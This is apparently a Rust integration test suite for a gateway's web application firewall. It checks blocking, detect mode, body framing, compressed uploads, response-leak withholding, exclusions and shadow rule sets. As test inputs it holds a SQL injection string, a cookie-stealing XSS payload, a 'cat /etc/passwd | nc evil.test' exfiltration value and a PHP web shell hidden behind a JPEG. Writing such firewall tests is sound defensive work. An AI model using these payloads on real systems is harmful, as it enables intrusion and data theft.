//! The WAF in the way of real requests: what it blocks, what it only tells, what it holds back and what it lets through unharmed.

use crate::support::{
    client::{Client, Response},
    eventually,
    gateway::{Gateway, run_in},
    origin::{Origin, Seen},
};
use serde_json::Value;
use std::{collections::BTreeSet, io::Write};

async fn edge(origin: &Origin, objects: &str, rest: &str) -> Gateway {
    edge_with(origin, &[], objects, rest).await
}

async fn edge_with(origin: &Origin, files: &[(&str, &str)], objects: &str, rest: &str) -> Gateway {
    let folder = tempfile::tempdir().unwrap();
    for (name, text) in files {
        std::fs::write(folder.path().join(name), text).unwrap();
    }
    let config = format!(
        "[telemetry]\naudit_log = {{ to = {{ file = \"audit.log\" }} }}\n[listener.http]\naddress = \"127.0.0.1:0\"\n{objects}\n\
         [upstream.app]\nendpoints = [\"{}\"]\n[route.app]\nupstream = \"app\"\n{rest}\n",
        origin.addr
    );
    Gateway::start_in(folder, &config).await
}

async fn ask(gateway: &Gateway, request: impl AsRef<[u8]>) -> Response {
    let mut client = Client::connect(gateway.addr("http")).await;
    client.send(request).await;
    client.response().await
}

fn get(target: &str) -> String {
    format!("GET {target} HTTP/1.1\r\nHost: shop.test\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n\r\n")
}

fn post(kind: &str, body: &[u8]) -> Vec<u8> {
    let head = format!(
        "POST /form HTTP/1.1\r\nHost: shop.test\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\nContent-Type: {kind}\r\nContent-Length: {}\r\n\r\n",
        body.len()
    );
    [head.as_bytes(), body].concat()
}

/// Lines of the audit log.
async fn audits(gateway: &Gateway, count: usize) -> Vec<Value> {
    eventually("audit lines", async || {
        let text = std::fs::read_to_string(gateway.path().join("audit.log")).unwrap_or_default();
        let lines: Vec<Value> = text.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
        (lines.len() >= count).then_some(lines)
    })
    .await
}

const ATTACK: &str = "/?q=1%27%20UNION%20SELECT%20password%20FROM%20users--";
const FORM: &str = "application/x-www-form-urlencoded";

#[tokio::test]
async fn our_own_rules_block_attacks_and_tell_why() {
    let origin = Origin::echo().await;
    let gateway = edge(&origin, "", "waf.mode = \"block\"").await;
    assert_eq!(ask(&gateway, get("/products?id=17&q=red+shoes")).await.status, 200);
    let blocked = ask(&gateway, get(ATTACK)).await;
    assert_eq!((blocked.status, blocked.text().as_str()), (403, "Forbidden\n"));
    // The absolute form (RFC 9112 §3.2.2) asks for the same.
    assert_eq!(ask(&gateway, get(&format!("http://shop.test{ATTACK}"))).await.status, 403);
    assert_eq!(ask(&gateway, get("http://shop.test/products?id=17")).await.status, 200);
    let form = b"name=x&comment=%3Cscript%3Ealert%28document.cookie%29%3C%2Fscript%3E";
    assert_eq!(ask(&gateway, post(FORM, form)).await.status, 403);
    assert_eq!(
        ask(&gateway, post("application/json", br#"{"a":"; cat /etc/passwd | nc evil.test 1"}"#)).await.status,
        403
    );
    assert_eq!(ask(&gateway, post(FORM, b"name=Ada&comment=what+a+day")).await.status, 200);
    assert_eq!(origin.last().body, b"name=Ada&comment=what+a+day");
    assert!(origin.requests().iter().all(|seen| seen.body.is_empty() || !seen.body.contains(&b'<')), "held back");
    // Each core writes its own lines: they come in any order.
    let lines = audits(&gateway, 3).await;
    let of_query = |line: &&Value| {
        let variable = line["audit"]["matches"][0]["findings"][0]["variable"].as_str();
        variable.is_some_and(|variable| variable.ends_with("ARGS:q"))
    };
    let line = lines.iter().find(of_query).expect("the attack in the query");
    assert_eq!(line["outcome"], "blocked");
    assert_eq!(line["route"], "app");
    let rule = &line["audit"]["matches"][0];
    assert!(rule["id"].as_u64().is_some_and(|id| (100_000..191_000).contains(&id)), "{rule}");
    assert!(rule["score"].as_i64().is_some_and(|score| (2..=5).contains(&score)), "{rule}");
    gateway.counts("portcullis_waf_transactions_total", &["waf=\"builtin\"", "outcome=\"blocked\""], 4.0).await;
    gateway.counts("portcullis_refusals_total", &["reason=\"waf\""], 4.0).await;
}

#[tokio::test]
async fn detecting_refuses_nothing_and_levels_add_up() {
    let origin = Origin::fixed("ok").await;
    let rest = "[route.app.rule.strict]\npath = \"/strict\"\nwaf.mode = \"block\"\n[route.app.rule.off]\npath = \"/off\"\nrelax = [\"waf\"]\nwaf.mode = \"off\"\n";
    let objects = "[defaults]\nwaf.mode = \"detect\"\nmay_relax = [\"waf\"]\n";
    let gateway = edge(&origin, objects, rest).await;
    assert_eq!(ask(&gateway, get(ATTACK)).await.status, 200);
    assert_eq!(ask(&gateway, get(&format!("/off{}", &ATTACK[1..]))).await.status, 200);
    assert_eq!(ask(&gateway, get(&format!("/strict{}", &ATTACK[1..]))).await.status, 403);
    let lines = audits(&gateway, 2).await;
    assert_eq!(lines.len(), 2, "off sees nothing");
    let mut outcomes: Vec<_> = lines.iter().filter_map(|line| line["outcome"].as_str()).collect();
    outcomes.sort_unstable();
    assert_eq!(outcomes, ["blocked", "matched"]);
}

#[tokio::test]
async fn bodies_of_every_size_and_framing_arrive_as_they_were_sent() {
    let origin = Origin::echo().await;
    let gateway = edge(&origin, "", "waf.mode = \"block\"").await;
    // Beyond 128 KiB the rest is not looked at, and all of it still arrives.
    for length in [1, 1_000, 65_535, 65_536, 65_537, 131_072, 131_073, 200_000, 2_000_000, 5_000_000] {
        let body: Vec<u8> = (0..length).map(|n| b"abcdefghijklmnop"[n % 16]).collect();
        let response = ask(&gateway, post("text/plain", &body)).await;
        assert_eq!(response.status, 200, "{length}");
        assert!(origin.last().body == body, "{length} octets, {} arrived", origin.last().body.len());
        let mut chunked = b"POST /x HTTP/1.1\r\nHost: shop.test\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\nContent-Type: text/plain\r\nTransfer-Encoding: chunked\r\n\r\n".to_vec();
        for chunk in body.chunks(70_001) {
            chunked.extend(format!("{:x}\r\n", chunk.len()).bytes());
            chunked.extend(chunk);
            chunked.extend(b"\r\n");
        }
        chunked.extend(b"0\r\n\r\n");
        assert_eq!(ask(&gateway, &chunked).await.status, 200, "{length} in chunks");
        assert!(origin.last().body == body, "{length} in chunks, {} arrived", origin.last().body.len());
    }
    let mut client = Client::connect(gateway.addr("http")).await;
    client.send("POST /x HTTP/1.1\r\nHost: shop.test\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 7\r\nExpect: 100-continue\r\n\r\n").await;
    client.send("a=hello").await;
    assert_eq!(client.response().await.status, 200);
    assert_eq!(origin.last().body, b"a=hello");
}

#[tokio::test]
async fn packed_bodies_and_what_is_in_uploads_is_looked_at() {
    let origin = Origin::echo().await;
    let gateway = edge(&origin, "", "waf.mode = \"block\"").await;
    let brotli = |text: &[u8]| {
        let mut packed = Vec::new();
        brotli::CompressorWriter::new(&mut packed, 4096, 5, 22).write_all(text).unwrap();
        packed
    };
    let zstd = |text: &[u8]| zstd::stream::encode_all(text, 3).unwrap();
    let packed = |coding: &str, body: &[u8]| {
        let head = format!(
            "POST /form HTTP/1.1\r\nHost: shop.test\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\nContent-Type: {FORM}\r\nContent-Encoding: {coding}\r\nContent-Length: {}\r\n\r\n",
            body.len()
        );
        [head.as_bytes(), body].concat()
    };
    let attack = b"name=x&comment=%3Cscript%3Ealert%28document.cookie%29%3C%2Fscript%3E".as_slice();
    for (coding, attack, benign) in
        [("br", brotli(attack), brotli(b"name=Ada")), ("zstd", zstd(attack), zstd(b"name=Ada"))]
    {
        assert_eq!(ask(&gateway, packed(coding, &attack)).await.status, 403, "{coding}");
        assert_eq!(ask(&gateway, packed(coding, &benign)).await.status, 200, "{coding}");
        assert!(origin.last().body == benign, "as it was sent: {coding}");
    }
    assert_eq!(ask(&gateway, packed("lzma", b"whatever")).await.status, 200);
    gateway.counts("portcullis_waf_cut_total", &["waf=\"builtin\"", "cut=\"encoding\""], 1.0).await;
    let lines = audits(&gateway, 3).await;
    let passed = lines.iter().find(|line| line["outcome"] == "passed").expect("the line of what was not read");
    assert_eq!(passed["audit"]["cut"][0], "encoding");

    let upload = |file: &[u8]| {
        let head = b"--B\r\nContent-Disposition: form-data; name=\"f\"; filename=\"cat.jpg\"\r\n\r\n".as_slice();
        post("multipart/form-data; boundary=B", &[head, file, b"\r\n--B--\r\n"].concat())
    };
    let image = [b"\xff\xd8\xff\xe0JFIF".to_vec(), vec![7; 60_000]].concat();
    assert_eq!(ask(&gateway, upload(&image)).await.status, 200);
    let shell = [image, b"<?php system($_GET['c']); ?>".to_vec()].concat();
    assert_eq!(ask(&gateway, upload(&shell)).await.status, 403, "behind the image");
}

#[tokio::test]
async fn a_body_goes_whole_to_the_next_endpoint_when_the_first_is_dead() {
    let origin = Origin::echo().await;
    let config = format!(
        "[listener.http]\naddress = \"127.0.0.1:0\"\n[upstream.app]\nendpoints = [\"127.0.0.1:1\", {{ address = \"{}\", priority = 1 }}]\n\
         [route.app]\nupstream = \"app\"\nwaf.mode = \"block\"\n",
        origin.addr
    );
    let gateway = Gateway::start(&config).await;
    for length in [10, 60_000] {
        let body = vec![b'x'; length];
        assert_eq!(ask(&gateway, post("text/plain", &body)).await.status, 200, "{length}");
        assert!(origin.last().body == body, "{length}");
    }
}

#[tokio::test]
async fn what_rules_quote_is_covered_where_privacy_rules_apply() {
    let origin = Origin::fixed("ok").await;
    let objects = "[privacy.cards]\ndetect = [\"card\"]\naction = \"log\"\n";
    let gateway = edge(&origin, objects, "privacy = \"cards\"\nwaf.mode = \"block\"").await;
    let attack = b"card=4111111111111111%27%20UNION%20SELECT%20password%20FROM%20users--";
    assert_eq!(ask(&gateway, post(FORM, attack)).await.status, 403);
    assert_eq!(ask(&gateway, get(&format!("/?{}", String::from_utf8_lossy(attack)))).await.status, 403);
    let lines = audits(&gateway, 2).await;
    let of_waf: Vec<&Value> = lines.iter().filter(|line| line["waf"] == "builtin").collect();
    assert!(!of_waf.is_empty(), "{lines:?}");
    for line in of_waf {
        let excerpt = line["audit"]["matches"][0]["findings"][0]["excerpt"].as_str().unwrap().to_owned();
        assert!(excerpt.to_lowercase().contains("union"), "{excerpt}");
    }
    let text = std::fs::read_to_string(gateway.path().join("audit.log")).unwrap();
    assert!(!text.contains("411111111111"), "{text}");
}

#[tokio::test]
async fn leaks_in_responses_are_withheld() {
    let origin = Origin::start(|seen: &Seen| {
        let body = match seen.path() {
            "/leak" | "/lenient" => "<html>Fatal error: Uncaught PDOException: SQLSTATE[42000]: Syntax error or access violation: 1064 You have an error in your SQL syntax in /var/www/app/db.php:17\nStack trace:\n#0 /var/www/app/index.php(12): PDO-&gt;query()</html>",
            _ => "<html>hello</html>",
        };
        format!("HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {}\r\n\r\n{body}", body.len()).into_bytes()
    })
    .await;
    let lenient = "[route.app.rule.lenient]\npath = \"/lenient\"\nrelax = [\"waf\"]\nwaf = { mode = \"block\", score = { outbound = 1000 } }";
    let gateway =
        edge(&origin, "[defaults]\nmay_relax = [\"waf\"]\n", &format!("waf.mode = \"block\"\n{lenient}")).await;
    assert_eq!(ask(&gateway, get("/fine")).await.text(), "<html>hello</html>");
    assert!(ask(&gateway, get("/lenient")).await.text().contains("PDOException"), "below the threshold");
    let mut client = Client::connect(gateway.addr("http")).await;
    client.send(get("/leak")).await;
    let answer = client.try_response(false).await;
    assert!(answer.is_none_or(|answer| !answer.text().contains("PDOException")), "nothing of it is seen");
}

#[tokio::test]
async fn exclusions_thresholds_and_rules_of_ones_own() {
    let origin = Origin::fixed("ok").await;
    let own = "SecRule ARGS:colour \"@streq mauve\" \"id:1001,phase:1,deny,status:406,log,msg:'no mauve'\"\n";
    let objects = "[waf.site]\nrules = [\"builtin\"]\ninclude = [\"own.conf\"]\n";
    let mauve = get("/?colour=mauve");
    for (waf, request, status) in [
        ("", get(ATTACK), 200),
        ("waf.mode = \"block\"", get(ATTACK), 403),
        ("waf.mode = \"block\"", mauve.clone(), 406),
        ("waf = { mode = \"block\", exclude = [1001] }", mauve.clone(), 200),
        ("waf = { mode = \"block\", exclude = [{ rule = \"1001\", path = \"/other\" }] }", mauve.clone(), 406),
        (
            "waf = { mode = \"block\", exclude = [{ rule = \"1001\", methods = [\"GET\"], reason = \"legacy\" }] }",
            mauve.clone(),
            200,
        ),
        ("waf = { mode = \"block\", exclude = [{ rule = \"1001\", expires = \"2020-01-01\" }] }", mauve.clone(), 406),
        ("waf = { mode = \"block\", exclude = [{ rule = \"100000-199999\", target = \"ARGS:q\" }] }", get(ATTACK), 200),
        ("waf = { mode = \"block\", exclude = [{ tag = \"class/sqli\", target = \"ARGS:q\" }] }", get(ATTACK), 200),
        ("waf = { mode = \"block\", exclude = [{ tag = \"class/xss\", target = \"ARGS:q\" }] }", get(ATTACK), 403),
        ("waf = { mode = \"block\", score = { inbound = 1000 } }", get(ATTACK), 200),
        ("waf = { mode = \"block\", profile = \"builtin\" }", mauve, 200),
    ] {
        let gateway = edge_with(&origin, &[("own.conf", own)], objects, waf).await;
        assert_eq!(ask(&gateway, request).await.status, status, "{waf}");
    }
}

#[tokio::test]
async fn rules_that_cannot_be_run_are_refused_with_their_place() {
    let folder = tempfile::tempdir().unwrap();
    std::fs::write(
        folder.path().join("bad.conf"),
        "SecRule ARGS \"@rx x\" \"id:1,phase:2,deny\"\nSecRule ARGZ \"@rx x\" \"id:2,phase:2\"\n",
    )
    .unwrap();
    for (text, message) in [
        ("[waf.site]\nrules = [\"bad.conf\"]\n", "bad.conf:2"),
        ("[waf.site]\nrules = [\"none.conf\"]\n", "none.conf"),
        ("[waf.site]\nbody = \"1GiB\"\n", "16MiB"),
        ("[defaults]\nwaf.profile = \"sight\"\n[waf.site]\n", "waf \"sight\" is not defined (defined: builtin, site)"),
        ("[defaults]\nwaf.paranoia = 5\n", "4"),
        ("[waf.site]\nrules = [\"crs:nowhere\"]\n", "nowhere is no Core Rule Set"),
        ("[defaults]\nwaf.shadow.profile = \"sight\"\n[waf.site]\n", "waf \"sight\" is not defined"),
        ("[defaults]\nwaf = { paranoia = 3, detection_paranoia = 2 }\n", "detection paranoia 2 is below"),
        (
            "[defaults]\nwaf.mode = \"block\"\n[route.x]\npath = \"/x\"\nupstream = \"app\"\nwaf.sample = \"1%\"\n",
            "a level above looks at more requests",
        ),
        ("[defaults]\nwaf.exclude = [{ target = \"ARGS\" }]\n", "by `rule` or by `tag`"),
        ("[defaults]\nwaf.exclude = [{ rule = \"1\", expires = \"soon\" }]\n", "is not a day"),
        (
            "[defaults]\nwaf.mode = \"block\"\n[route.x]\npath = \"/x\"\nupstream = \"app\"\nwaf.mode = \"off\"\n",
            "a level above is stricter",
        ),
    ] {
        let base = "[listener.http]\naddress = \"127.0.0.1:0\"\n[upstream.app]\nendpoints = [\"127.0.0.1:1\"]\n[route.app]\nupstream = \"app\"\n";
        std::fs::write(folder.path().join("edge.toml"), format!("{base}{text}")).unwrap();
        let (code, out) = run_in(folder.path(), &["check", "edge.toml"]).await;
        assert!(code == 1 && out.contains(message), "{message}\n{out}");
    }
}

#[tokio::test]
async fn a_shadow_rule_set_decides_nothing_and_tells_where_it_differs() {
    let origin = Origin::fixed("ok").await;
    let rule = |id: u32, word: &str| {
        format!("SecRule ARGS:q \"@streq {word}\" \"id:{id},phase:2,deny,status:406,log,msg:'{word}'\"\n")
    };
    let body = "SecRequestBodyAccess On\n";
    let live = format!("{body}{}{}{}", rule(1, "both"), rule(2, "old"), rule(3, "alike"));
    let next = format!("{body}{}{}{}", rule(1, "both"), rule(4, "new"), rule(5, "alike"));
    let objects = "[waf.live]\nrules = [\"live.conf\"]\n[waf.next]\nrules = [\"next.conf\"]\n";
    for (mode, refused) in [("block", 406), ("detect", 200)] {
        let waf = format!(
            "waf = {{ profile = \"live\", mode = \"{mode}\", shadow = {{ profile = \"next\" }} }}\n\
             [route.app.rule.never]\npath = \"/never\"\nwaf.shadow = {{ profile = \"next\", sample = \"0%\" }}\n"
        );
        let files = [("live.conf", live.as_str()), ("next.conf", next.as_str())];
        let gateway = edge_with(&origin, &files, objects, &waf).await;
        for (request, status) in [
            (get("/?q=both").into_bytes(), refused),
            (get("/?q=nothing").into_bytes(), 200),
            (get("/?q=old").into_bytes(), refused),
            (post(FORM, b"q=new"), 200),
            (get("/?q=alike").into_bytes(), refused),
            (get("/never?q=new").into_bytes(), 200),
        ] {
            assert_eq!(ask(&gateway, &request).await.status, status, "{}", String::from_utf8_lossy(&request));
        }
        let metric = "portcullis_waf_shadow_total";
        let counts = async |outcome: &str, count: f64| {
            gateway
                .counts(metric, &["waf=\"live\"", "shadow=\"next\"", &format!("outcome=\"{outcome}\"")], count)
                .await;
        };
        counts("same", 2.0).await;
        counts("laxer", 1.0).await;
        counts("stricter", 1.0).await;
        counts("other_rules", 1.0).await;
        let lines = audits(&gateway, 6).await;
        let told: Vec<&Value> = lines.iter().filter(|line| line["waf"] == "next").collect();
        let brief = told.iter().map(|line| {
            (
                line["outcome"].as_str().unwrap(),
                line["shadow"]["only_live"].to_string(),
                line["shadow"]["only_shadow"].to_string(),
            )
        });
        let mut brief: Vec<_> = brief.collect();
        // Two cores write their lines in whatever order.
        brief.sort();
        let expected = [("laxer", "[2]", "[]"), ("other_rules", "[3]", "[5]"), ("stricter", "[]", "[4]")];
        assert_eq!(
            brief,
            expected.map(|(outcome, live, shadow)| (outcome, live.to_owned(), shadow.to_owned())),
            "{mode}"
        );
    }
}

#[tokio::test]
async fn a_sample_of_requests_is_looked_at() {
    let origin = Origin::fixed("ok").await;
    for (sample, refused) in [("0%", 0..=0), ("50%", 60..=140), ("100%", 200..=200)] {
        let gateway = edge(&origin, "", &format!("waf = {{ mode = \"block\", sample = \"{sample}\" }}")).await;
        let mut count = 0;
        for _ in 0..200 {
            count += usize::from(ask(&gateway, get(ATTACK)).await.status == 403);
        }
        assert!(refused.contains(&count), "{count} of 200 at {sample}");
    }
}

#[tokio::test]
async fn rules_above_the_level_that_blocks_are_only_written_down() {
    let origin = Origin::fixed("ok").await;
    // A level of the kind that the Core Rule Set has: counted only up to the one that blocks.
    let rules = "SecRequestBodyAccess On\n\
        SecAction \"id:1,phase:1,pass,nolog,setvar:tx.blocking_score=0\"\n\
        SecRule TX:DETECTION_PARANOIA_LEVEL \"@lt 3\" \"id:2,phase:2,pass,nolog,skipAfter:END\"\n\
        SecRule ARGS:q \"@rx odd\" \"id:3,phase:2,pass,log,msg:'odd',setvar:tx.score_pl3=+5\"\n\
        SecMarker END\n\
        SecRule TX:BLOCKING_PARANOIA_LEVEL \"@ge 3\" \"id:4,phase:2,pass,nolog,setvar:tx.blocking_score=+%{tx.score_pl3}\"\n\
        SecRule TX:BLOCKING_SCORE \"@ge 5\" \"id:5,phase:2,deny,status:403,log,msg:'too much'\"\n";
    for (levels, status, matched) in
        [("paranoia = 1", 200, 0), ("paranoia = 1, detection_paranoia = 3", 200, 1), ("paranoia = 3", 403, 2)]
    {
        let waf = format!("waf = {{ mode = \"block\", {levels} }}");
        let gateway = edge_with(&origin, &[("l.conf", rules)], "[waf.site]\nrules = [\"l.conf\"]\n", &waf).await;
        assert_eq!(ask(&gateway, get("/?q=odd")).await.status, status, "{levels}");
        if matched > 0 {
            let lines = audits(&gateway, 1).await;
            assert_eq!(lines[0]["audit"]["matches"].as_array().unwrap().len(), matched, "{levels}");
        }
    }
}

/// A folder with the shape of a release: what stands in it is ours.
#[tokio::test]
async fn a_release_of_the_core_rule_set_is_loaded_beside_our_own_rules() {
    let origin = Origin::echo().await;
    let folder = tempfile::tempdir().unwrap();
    for (name, text) in [
        ("crs-setup.conf.example", "SecAction \"id:900001,phase:1,pass,nolog,setvar:tx.order=setup\"\n"),
        ("plugins/a-config.conf", "SecAction \"id:9500,phase:1,pass,nolog,setvar:'tx.order=%{tx.order} config'\"\n"),
        ("plugins/a-before.conf", "SecAction \"id:9501,phase:1,pass,nolog,setvar:'tx.order=%{tx.order} before'\"\n"),
        (
            "plugins/a-after.conf",
            "SecRule TX:order \"@streq setup config before rules\" \"id:9502,phase:2,pass,log,msg:'in order'\"\n",
        ),
        (
            "rules/REQUEST-1.conf",
            "SecAction \"id:901001,phase:1,pass,nolog,setvar:'tx.order=%{tx.order} rules'\"\n\
            SecRule ARGS|ARGS_NAMES \"@pmFromFile words.data\" \"id:901002,phase:2,deny,status:406,log,msg:'a word'\"\n",
        ),
        ("rules/words.data", "# words\nmauve\n"),
    ] {
        let path = folder.path().join("crs").join(name);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    }
    for rules in ["[\"crs:crs\"]", "[\"builtin\", \"crs:crs\"]"] {
        let copy = tempfile::tempdir().unwrap();
        let copied =
            std::process::Command::new("cp").arg("-r").arg(folder.path().join("crs")).arg(copy.path()).status();
        assert!(copied.unwrap().success());
        let config = format!(
            "[telemetry]\naudit_log = {{ to = {{ file = \"audit.log\" }} }}\n[listener.http]\naddress = \"127.0.0.1:0\"\n\
             [waf.site]\nrules = {rules}\n[upstream.app]\nendpoints = [\"{}\"]\n[route.app]\nupstream = \"app\"\nwaf.mode = \"block\"\n",
            origin.addr
        );
        let gateway = Gateway::start_in(copy, &config).await;
        assert_eq!(ask(&gateway, get("/")).await.status, 200, "{rules}");
        assert_eq!(audits(&gateway, 1).await[0]["audit"]["matches"][0]["id"], 9502, "{rules}");
        assert_eq!(ask(&gateway, post("application/json", br#"{"colour":"mauve"}"#)).await.status, 406, "{rules}");
        assert_eq!(
            ask(&gateway, post("text/xml", b"<colour>mauve</colour>")).await.status,
            200,
            "no rule asks for XML"
        );
        let expected = if rules.contains("builtin") { 403 } else { 200 };
        assert_eq!(ask(&gateway, get(ATTACK)).await.status, expected, "{rules}");
    }
}

#[tokio::test]
async fn every_response_names_its_request_as_log_and_audit_do() {
    let origin = Origin::fixed("ok").await;
    let rest = "hosts = [\"shop.test\"]\nwaf.mode = \"block\"\n[route.app.rule.own]\npath = \"/own\"\nrespond = { status = 200, body = \"own\" }\n";
    let gateway = edge(&origin, "", rest).await;
    let other = "GET / HTTP/1.1\r\nHost: other.test\r\n\r\n".to_owned();
    let malformed = "GET / HTTP/1.1\r\nHost: shop test\r\n\r\n".to_owned();
    let mut told = Vec::new();
    for (request, status) in
        [(get("/"), 200), (get("/own"), 200), (get(ATTACK), 403), (other, 404), (malformed, 400), (get("/%00"), 400)]
    {
        let response = ask(&gateway, &request).await;
        assert_eq!(response.status, status, "{request}");
        told.push(response.header("x-request-id").unwrap_or_else(|| panic!("{request}: {}", response.head)).to_owned());
    }
    let records = eventually("all are in the log", async || {
        let records = gateway.records();
        (records.len() == told.len()).then_some(records)
    })
    .await;
    // Each core writes for itself.
    let logged: BTreeSet<&str> = records.iter().filter_map(|record| record["request_id"].as_str()).collect();
    assert_eq!(logged, told.iter().map(String::as_str).collect());
    assert_eq!(origin.last().header("x-request-id"), Some(told[0].as_str()));
    let audit = audits(&gateway, 1).await;
    assert_eq!(audit[0]["request_id"], told[2].as_str(), "{audit:?}");
}
